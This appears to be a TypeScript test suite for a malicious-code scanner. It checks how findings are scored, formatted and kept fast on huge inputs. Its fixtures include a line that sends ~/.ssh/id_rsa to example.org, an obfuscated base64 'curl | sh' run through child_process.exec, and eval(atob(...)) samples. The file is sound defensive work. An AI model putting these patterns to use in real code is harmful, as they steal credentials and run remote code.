import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isPublicIpv4 } from '../../../shared/src/inspect/rules/exfiltration';
import { scanText, type ScanTextInput } from '../../../shared/src/inspect/scanText';
import { formatSourceFinding, toFinding, type SourceFinding } from '../../../shared/src/inspect/index';

const MB = 1024 * 1024;

function scan(text: string, extra: Partial<ScanTextInput> = {}): SourceFinding[] {
  return scanText({ file: 'x.js', text, language: 'javascript', installTime: false, maxBytes: MB, ...extra });
}

test('a capability with a threat indicator in the same file scores higher than either alone', () => {
  const indicatorOnly = scan("const p = require('path').join(require('os').homedir(), '.ssh', 'id_rsa');\n");
  const capabilityOnly = scan("require('https').get('https://example.org/');\n");
  const both = scan("const p = require('path').join(require('os').homedir(), '.ssh', 'id_rsa');\nrequire('https').get('https://example.org/?k=' + p);\n");
  const installTime = scan("const p = require('path').join(require('os').homedir(), '.ssh', 'id_rsa');\nrequire('https').get('https://example.org/?k=' + p);\n", { installTime: true });
  assert.equal(capabilityOnly.length, 0, 'a capability alone is not reported outside install-time code');
  const [alone] = indicatorOnly;
  const [paired] = both.filter((f) => f.rule === 'sensitive-file');
  const [atInstall] = installTime.filter((f) => f.rule === 'sensitive-file');
  assert.ok(alone && paired && atInstall);
  assert.equal(alone.severity, 'medium');
  assert.equal(paired.severity, 'high');
  assert.equal(atInstall.severity, 'critical');
  assert.ok(alone.score < paired.score && paired.score < atInstall.score);
  // The paired finding names both lines: the indicator and the capability that raised it.
  assert.deepEqual(paired.matches.map((m) => [m.rule, m.line]), [['sensitive-file', 0], ['network', 1]]);
  assert.match(paired.message, /also uses the network/);
});

test('findings print 1-based lines with rule ids and reasons, and map onto shared severities', () => {
  const [finding] = scan("\n\neval(atob('Y29uc29sZS5sb2coMSk='));\n");
  assert.ok(finding);
  assert.equal(finding.rule, 'decode-exec');
  assert.match(formatSourceFinding(finding).join('\n'), /x\.js:3 decode-exec[\s\S]*line 3: decode-exec \(executes decoded or decompressed data\)/);
  const shared = toFinding(finding, 'npm');
  assert.equal(shared.severity, 'error');
  assert.equal(shared.rule, 'source/decode-exec');
});

test('install-time code reports its capabilities as low notes', () => {
  const findings = scanText({ file: 'setup.py', text: "import subprocess\nsubprocess.check_call(['git', 'describe'])\n", language: 'python', installTime: true, maxBytes: MB });
  assert.deepEqual(findings.map((f) => [f.rule, f.severity]), [['install-spawn', 'low']]);
});

test('pathological 5 MB one-line files finish fast (linear-time rules, capped bytes)', () => {
  const size = 5 * MB;
  const inputs: Record<string, string> = {
    letters: 'a'.repeat(size),
    blanks: ' '.repeat(size) + 'x=1;',
    hexIds: '_0x1a2b,'.repeat(size / 8),
    escapes: '\\x41'.repeat(size / 4),
    quotes: "'".repeat(size),
    evals: 'eval(eval('.repeat(size / 10),
    curls: 'curl '.repeat(size / 5),
    dots: '.ssh'.repeat(size / 4),
    parens: '<!('.repeat(size / 3),
    cyrillic: 'aж'.repeat(size / 2),
  };
  for (const [name, text] of Object.entries(inputs)) {
    for (const language of ['javascript', 'python', 'shell'] as const) {
      const started = performance.now();
      scanText({ file: 'min.js', text, language, installTime: true, maxBytes: MB });
      const ms = performance.now() - started;
      assert.ok(ms < 3000, `${name} as ${language} took ${ms.toFixed(0)} ms`);
    }
  }
});

test('a payload at the end of a huge minified file is still found, with the right line', () => {
  const filler = 'var a=1;\n'.repeat(400_000); // 3.6 MB, 400k lines
  const text = `${filler}require('child_process').exec(Buffer.from('Y3VybCBodHRwOi8vMTI3LjAuMC4xOjkgfCBzaA==','base64').toString());eval(atob('eA=='));\n`;
  const findings = scan(text);
  const decode = findings.find((f) => f.rule === 'decode-exec');
  assert.ok(decode, 'tail of an oversized file is scanned');
  assert.equal(decode.range.start.line, 400_000);
});

test('public IPv4 check excludes private, loopback, documentation ranges and well-known resolvers', () => {
  assert.equal(isPublicIpv4([45, 33, 32, 156]), true);
  for (const ip of ['127.0.0.1', '10.1.2.3', '172.16.0.1', '192.168.0.1', '169.254.169.254', '100.64.0.1', '203.0.113.9', '198.51.100.1', '192.0.2.1', '0.0.0.0', '224.0.0.1', '8.8.8.8', '1.1.1.1']) {
    assert.equal(isPublicIpv4(ip.split('.').map(Number)), false, ip);
  }
  assert.equal(isPublicIpv4([300, 1, 1, 1]), false);
});
